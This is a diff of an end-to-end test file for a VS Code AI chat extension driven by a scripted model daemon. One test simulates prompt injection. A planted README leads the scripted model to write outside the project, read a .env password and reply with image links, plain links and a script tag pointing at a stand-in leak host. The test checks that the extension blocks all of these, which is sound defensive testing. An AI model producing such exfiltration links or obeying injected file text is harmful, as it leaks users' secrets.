@@ -4,21 +4,27 @@ import path from 'node:path';
 import { describe, expect } from 'vitest';
 import type { ChatMessage } from '../../native/protocol/chat.ts';
 import { panelStrings } from '../../webview/strings.ts';
-import { ScriptedDaemon, type Asked, type DaemonReply, type DaemonScript } from '../support/scripted-daemon.ts';
+import { ScriptedDaemon, type Asked, type DaemonReply, type DaemonScript, type ScriptedModelFacts } from '../support/scripted-daemon.ts';
 import { scenario, useVSCode, type Scenario, type ScenarioOptions } from './host/scenario.ts';
 
 interface ScriptedScenario extends Scenario {
   readonly model: ScriptedDaemon;
 }
 
-/** A scenario whose daemon says what `script` says. */
-function scripted(name: string, script: DaemonScript, body: (scenario: ScriptedScenario) => Promise<void>, prepare: (folder: string) => void = () => undefined): void {
+interface ScriptedOptions extends Pick<ScenarioOptions, 'otherExtension'> {
+  readonly facts?: Partial<ScriptedModelFacts>;
+  /** Files that the project has besides its own. */
+  readonly files?: Readonly<Record<string, string>>;
+}
+
+/** A scenario whose daemon says what `script` says; `script` is called for each try of the test. */
+function scripted(name: string, script: () => DaemonScript, { facts, files = {}, otherExtension }: ScriptedOptions, body: (scenario: ScriptedScenario) => Promise<void>): void {
   let model: ScriptedDaemon | undefined;
   const before: ScenarioOptions['before'] = async ({ stateDirectory, project }) => {
-    prepare(project.folder);
-    model = await ScriptedDaemon.start(stateDirectory, script);
+    for (const [file, text] of Object.entries(files)) writeFileSync(path.join(project.folder, file), text);
+    model = await ScriptedDaemon.start(stateDirectory, script(), facts);
   };
-  scenario(name, { sample: 'sample-project', before }, async (scenario) => {
+  scenario(name, { sample: 'sample-project', before, otherExtension }, async (scenario) => {
     try {
       if (model === undefined) throw new Error('The scripted daemon did not start.');
       await scenario.openChat();
@@ -30,9 +36,11 @@ function scripted(name: string, script: DaemonScript, body: (scenario: ScriptedS
 }
 
 /** Replies one after the other. */
-function inOrder(...replies: readonly DaemonReply[]): DaemonScript {
-  let next = 0;
-  return () => replies[next++] ?? { text: 'There is nothing more to say.' };
+function inOrder(...replies: readonly DaemonReply[]): () => DaemonScript {
+  return () => {
+    let next = 0;
+    return () => replies[next++] ?? { text: 'There is nothing more to say.' };
+  };
 }
 
 function call(name: string, args: object): { readonly name: string; readonly arguments: object } {
@@ -62,7 +70,7 @@ describe('with a larger model', () => {
     { text: 'clamp keeps a value between two bounds.' },
     { calls: [call('update_plan', { steps: steps('done', 'active') })] },
     { text: 'I know enough.' },
-  ), async ({ panel, model, shot }) => {
+  ), { files: { 'AGENTS.md': 'Names end in Moon.\n' } }, async ({ panel, model, shot }) => {
     await panel.send('Look around.');
     const card = panel.frame.locator('.card.question');
     await card.waitFor({ timeout: 60_000 });
@@ -89,20 +97,20 @@ describe('with a larger model', () => {
     expect(first?.tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(['run_tests', 'read_file', 'search_text', 'list_files', 'find_symbol', 'edit_file', 'write_file', 'delete_file', 'rename_symbol', 'get_diagnostics', 'run_command', 'read_output', 'update_plan', 'ask_user', 'delegate']));
     expect(first?.messages.map((message) => message.role)).toEqual(['system', 'user']);
     expect(first?.messages[0]?.content).toContain('Names end in Moon.');
-  }, (folder) => writeFileSync(path.join(folder, 'AGENTS.md'), 'Names end in Moon.\n'));
+  });
 
   let speak: () => void = () => undefined;
-  const allowed = new Promise<void>((resolve) => { speak = resolve; });
   scripted('messages typed meanwhile steer the next step or wait for the next turn', inOrder(
-    { text: 'I begin.', calls: [call('read_file', { path: 'src/math.js' })], before: () => allowed },
+    { text: 'I begin.', calls: [call('read_file', { path: 'src/math.js' })], before: () => new Promise<void>((resolve) => { speak = resolve; }) },
     { text: 'Understood.' },
     { text: 'And the other thing.' },
-  ), async ({ panel, model, shot }) => {
+  ), {}, async ({ panel, model, shot }) => {
     await panel.send('Begin.');
     await panel.write('And then something else.');
     await panel.write('Use short sentences.', 'Control+Enter');
     await expect.poll(() => panel.frame.locator('.user.queued').count()).toBe(2);
     await shot('1-waiting');
+    await expect.poll(() => model.asked.length, { timeout: 60_000 }).toBe(1);
     speak();
     await expect.poll(() => model.asked.length, { timeout: 60_000 }).toBe(3);
     expect(await panel.finishTurn()).toBe('answered');
@@ -121,7 +129,7 @@ describe('with a larger model', () => {
     { calls: [call('write_file', { path: '../notes.txt', content: 'secret' })] },
     { calls: [call('read_file', { path: '.env' })] },
     { text: 'Done. ![moon](https://leak.invalid/moon.png?secret=1) [more](https://leak.invalid/more) <img src="https://leak.invalid/x.png"> <script>document.title = "pwned"</script>' },
-  ), async ({ folder, panel, model, window, shot }) => {
+  ), { files: { 'README.md': trap, '.env': 'PASSWORD=hunter2\n' } }, async ({ folder, panel, model, window, shot }) => {
     await panel.send('Read the README.');
     await panel.awaitApproval();
     await shot('1-asked');
@@ -139,13 +147,33 @@ describe('with a larger model', () => {
     expect(JSON.stringify(model.asked)).not.toContain('hunter2');
     expect(await panel.frame.locator('#app img, #app script').count()).toBe(0);
     expect(window.foreignRequests).toEqual([]);
-  }, (folder) => {
-    writeFileSync(path.join(folder, 'README.md'), trap);
-    writeFileSync(path.join(folder, '.env'), 'PASSWORD=hunter2\n');
+  });
+
+  scripted('tools of other extensions are offered, and asked for', inOrder({ calls: [call('moon_phase', { day: 'Monday' })] }, { text: 'It is full.' }), { otherExtension: 'tool-extension' }, async ({ panel, model, shot }) => {
+    await panel.send('How is the moon?');
+    expect(await panel.awaitApproval()).toContain('moon_phase');
+    await shot('1-asked');
+    expect(await panel.finishTurn()).toBe('answered');
+    expect(model.asked[0]?.tools.find((tool) => tool.name === 'moon_phase')).toMatchObject({ description: 'The phase of the moon on a day.', parameters: { required: ['day'] } });
+    expect(lastResults(model.asked[1])).toEqual(['full moon on Monday']);
+  });
+
+  const filling = inOrder({ text: 'moon '.repeat(2900) }, { text: 'The user likes the moon.' }, { text: 'Yes.' });
+  scripted('a full context is shortened to a summary, and the conversation goes on', filling, { facts: { contextTokens: 4000 } }, async ({ panel, model, shot }) => {
+    await panel.send('Tell me all about the moon.');
+    expect(await panel.finishTurn()).toBe('answered');
+    await panel.send('Do I like it?');
+    expect(await panel.finishTurn()).toBe('answered');
+    await shot('1-end');
+    const [, summary, last] = model.asked;
+    expect(summary?.messages.length, 'the summary is written with the whole conversation in view').toBe(5);
+    expect(last?.messages.map((message) => message.role)).toEqual(['system', 'user']);
+    expect(last?.messages[1]?.content).toMatch(/^Do I like it\?[\s\S]*The user likes the moon\./);
+    expect(await panel.frame.locator('.notice').count()).toBe(1);
   });
 
   const lines = Array.from({ length: 10_000 }, (_, at) => `- line ${at} of a very long answer`);
-  scripted('an answer of 10,000 lines stays light', () => ({ text: `${lines.join('\n')}\n`, pieceLength: 4000, pieceMs: 10 }), async ({ panel, shot }) => {
+  scripted('an answer of 10,000 lines stays light', () => () => ({ text: `${lines.join('\n')}\n`, pieceLength: 4000, pieceMs: 10 }), {}, async ({ panel, shot }) => {
     const elements = (): Promise<number> => panel.frame.locator('#app *').count();
     await panel.send('Count.');
     let most = 0;
@@ -155,12 +183,12 @@ describe('with a larger model', () => {
     most = Math.max(most, await elements());
     expect(most, 'elements in the document').toBeLessThan(3000);
     expect(await panel.frame.locator('.list-row').count()).toBeLessThanOrEqual(200);
-    await panel.frame.getByText('line 9999 of').waitFor();
+    await panel.frame.locator('.list').getByText('line 9999 of').waitFor();
     await panel.frame.locator('.list').press('Home');
-    await panel.frame.getByText('line 0 of').waitFor();
+    await panel.frame.locator('.list').getByText('line 0 of').waitFor();
     await expect.poll(() => panel.frame.locator('.list').evaluate((list) => list.scrollTop)).toBe(0);
     await shot('2-beginning');
     await panel.frame.getByRole('button', { name: panelStrings.jumpToLatest }).click();
-    await panel.frame.getByText('line 9999 of').waitFor();
+    await panel.frame.locator('.list').getByText('line 9999 of').waitFor();
   });
 });
